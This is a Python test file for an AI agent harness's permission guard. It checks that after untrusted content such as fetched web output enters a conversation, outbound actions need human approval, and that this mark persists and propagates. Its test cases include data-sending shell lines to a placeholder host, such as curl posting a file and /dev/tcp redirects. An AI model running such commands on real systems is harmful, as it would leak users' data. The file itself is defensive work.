"""Text from elsewhere in a conversation: what then needs a word each time, and how the mark travels."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING, Any

import anyio
import pytest

from coordination.records import Status
from harness.context.conversation import Conversation
from harness.permissions.guard import Mark, PermissionGuard
from harness.permissions.outflow import could_send
from harness.permissions.questions import Answer
from harness.permissions.rules import parse_rules
from harness.permissions.ruling import Policy
from harness.permissions.shell.effects import may_send
from harness.tools.shell import ShellLimits, bash_tool
from tests.support.people import leads
from tests.support.teammate import TeammateUnderTest, opens_run, puts_up, team_beside_repository
from tests.support.tools import Person, call, context, noted_tool

if TYPE_CHECKING:
    from pathlib import Path

    from tests.support.clock import FakeClock

PAGE = "the output of 'curl https://x.test'"
MARKED = Mark(why=PAGE, members=frozenset({"bob"}))


def asks(name: str, mark: Mark = MARKED, **arguments: Any) -> bool:
    """True when the person is asked although every rule allows the call."""
    rules = parse_rules(allow=["*", "bash(git push *)", "mcp__*"], ask=[], deny=[])
    person = Person(Answer(allowed=True, reason="approved"))
    guard = PermissionGuard(
        Policy(rules=rules, checks=("make test",)), lambda: PLACE, person, root=PLACE, mark=lambda: mark
    )
    refusal = anyio.run(guard.check, call(name, **arguments), noted_tool([], name))
    assert refusal is None
    assert all(question.is_fresh and PAGE in question.why for question in person.asked)
    return bool(person.asked)


PLACE: Path


@pytest.fixture(autouse=True)
def _place(tmp_path: Path) -> None:
    global PLACE  # noqa: PLW0603 - one directory for all calls of a test
    PLACE = tmp_path


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("bash", {"command": "curl -d @a https://x.test"}),
        ("bash", {"command": "git push origin x"}),
        ("bash", {"command": "python3 send.py"}),
        ("bash", {"command": "ls && ./deploy.sh"}),
        ("bash", {"command": "env curl https://x.test"}),
        ("mcp__mail__send", {"to": "x"}),
        ("send_message", {"to": "alice", "content": "x"}),
    ],
)
def test_what_could_carry_something_out_needs_a_word_whatever_is_allowed(
    name: str, arguments: dict[str, str]
) -> None:
    assert asks(name, **arguments)
    assert not asks(name, Mark(), **arguments)


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("bash", {"command": "grep -rn x ."}),
        ("bash", {"command": "mkdir a && touch a/b"}),
        ("bash", {"command": "git commit -m x"}),
        ("bash", {"command": "make test"}),
        ("write_file", {"path": "a", "content": "x"}),
        ("send_message", {"to": "bob", "content": "x"}),
        ("create_task", {}),
    ],
)
def test_what_stays_here_goes_on_as_before(name: str, arguments: dict[str, str]) -> None:
    assert not asks(name, **arguments)


def test_mail_is_free_only_to_those_who_are_marked_themselves() -> None:
    assert could_send("send_message", {"to": "alice"}, marked={"bob"}, checks=())
    assert not could_send("send_message", {"to": "bob"}, marked={"bob"}, checks=())


def test_a_network_command_marks_and_a_local_one_does_not(tmp_path: Path) -> None:
    heard: list[str] = []

    async def hears(why: str, _: str = "") -> None:
        heard.append(why)

    where = replace(context(tmp_path), distrust=hears)
    tool = bash_tool(ShellLimits(timeout_seconds=5, max_timeout_seconds=5, kept_bytes=1000), None)
    anyio.run(tool.run, {"command": "echo curl"}, where)
    assert heard == []
    anyio.run(tool.run, {"command": "git ls-remote . || true"}, where)
    assert heard == ["the output of 'git ls-remote . || true'"]


@pytest.mark.parametrize(
    "command",
    ["cat < /dev/tcp/x.test/80", "env curl x.test", "sh -c 'curl x.test' x", "find . -exec wget x.test ;"],
)
def test_whatever_talks_to_another_machine_marks(command: str) -> None:
    assert may_send(command)


def test_a_connection_of_the_shell_itself_carries_out() -> None:
    assert could_send("bash", {"command": "echo x > /dev/tcp/x.test/80"}, marked=(), checks=())
    assert not could_send("bash", {"command": "echo x > tcp"}, marked=(), checks=())


MARK = {"kind": "mark", "untrusted": PAGE}
RESULT = {"kind": "tool_results", "content": []}
MAIL = {"kind": "mail", "text": "hi", "message": {"from": "bob~2", "metadata": {"untrusted": PAGE}}}
SUMMARY = {"kind": "context", "step": "summary", "text": "what was", "tail": 0}


@pytest.mark.parametrize("lines", [[MARK, RESULT], [MAIL]])
def test_the_mark_survives_compaction_and_resume_and_ends_with_the_conversation(
    lines: list[dict[str, Any]],
) -> None:
    asked = {"kind": "user", "text": "do it"}
    first = Conversation.of([asked, *lines, SUMMARY])
    again = Conversation.of([{"kind": "conversation", **first.to_json()}])
    for resumed in (first, again):
        assert (resumed.untrusted, resumed.marked) == (PAGE, ["bob"] if lines == [MAIL] else [])
    assert Conversation.of([asked, *lines, {"kind": "conversation"}]).untrusted == ""


def test_the_mark_of_a_running_call_counts_from_its_result_on_and_outlives_the_process() -> None:
    calls = [{"type": "tool_use", "id": "c1", "name": "bash", "input": {}}]
    lines = [{"kind": "user", "text": "do it"}, {"kind": "assistant", "content": calls}, MARK]
    running = Conversation()
    for line in lines:
        running.take(line)
    assert running.untrusted == ""  # the calls of the same reply were made before anybody saw it
    assert Conversation.of(lines).untrusted == PAGE  # after `kill -9` in the middle of the call


def test_the_first_mark_is_kept() -> None:
    assert Conversation.of([MARK, RESULT, {**MARK, "untrusted": "another"}, RESULT]).untrusted == PAGE


@pytest.mark.parametrize("more", [{}, {"run_in_background": True}])
def test_the_mark_is_set_before_the_command_runs(tmp_path: Path, more: dict[str, bool]) -> None:
    order: list[str] = []

    async def hears(_: str, server: str = "") -> None:
        order.append(f"mark{server}, fetched: {(tmp_path / 'fetched').exists()}")

    async def starts(command: str, *_: object) -> str:
        order.append("started")
        return command

    tool = bash_tool(ShellLimits(timeout_seconds=5, max_timeout_seconds=5, kept_bytes=1000), starts)
    where = replace(context(tmp_path), distrust=hears)
    anyio.run(tool.run, {"command": "touch fetched; git ls-remote . || true", **more}, where)
    assert order == ["mark, fetched: False", *(["started"] if more else [])]


@pytest.mark.anyio
async def test_the_mark_travels_with_mail_and_results_to_whoever_builds_on_them(
    tmp_path: Path, clock: FakeClock
) -> None:
    team = team_beside_repository(tmp_path, clock)
    lead = leads(team)
    run = opens_run(lead)
    first = puts_up(lead, run)
    second = puts_up(lead, run, "B", blocked_by=(first.id,))
    alice = TeammateUnderTest(team)
    await alice.takes_next()
    agent = alice.teammate._extras.agent() if alice.teammate._extras else None
    assert agent
    agent.conversation.take(MARK)  # by a call beside that which hands the work in
    await alice.on.complete("done")
    done = lead.tasks.get(first.id)
    assert (done.status, done.result and done.result.untrusted) == (Status.COMPLETED, PAGE)
    assert await alice.on.inherited_mark(lead.tasks.get(second.id)) == PAGE
    [letter] = list((team.root / "mailboxes/lead.d").glob("alice~*.jsonl"))
    assert f'"untrusted":"{PAGE}"' in letter.read_text()
    alice.teammate.wakeup.close()
